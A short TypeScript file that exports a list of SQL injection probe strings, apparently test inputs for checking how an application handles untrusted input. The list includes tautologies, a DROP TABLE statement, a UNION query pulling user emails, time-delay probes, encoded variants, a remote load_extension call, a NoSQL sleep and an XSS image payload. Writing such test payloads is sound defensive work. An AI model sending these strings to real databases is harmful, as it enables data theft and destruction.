/** Probes that want a database to run SQL of theirs. */
export const sqlProbes: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE feedback; --",
  '1 UNION SELECT id, email, NULL FROM users--',
  "admin'/*",
  "' AND (SELECT count(*) FROM members) > 0 --",
  "'; WAITFOR DELAY '0:0:10'--",
  '1) OR pg_sleep(10)--',
  '%27%20OR%201%3D1%20--%20',
  'JyBPUiAnMSc9JzE=',
  "\\' OR 1=1 #",
  "x' AND extractvalue(1, concat(0x7e, version())) AND '1'='1",
  '&#39; OR &#39;a&#39;=&#39;a',
  "1;SELECT load_extension('http://example.com/probe')",
  "' || (SELECT group_concat(name) FROM sqlite_master) || '",
  '"; db.users.find({ "$where": "sleep(1000)" }); //',
  `' OR 1=1 -- "><img src=http://example.com/probe onerror=probed=1>`,
]
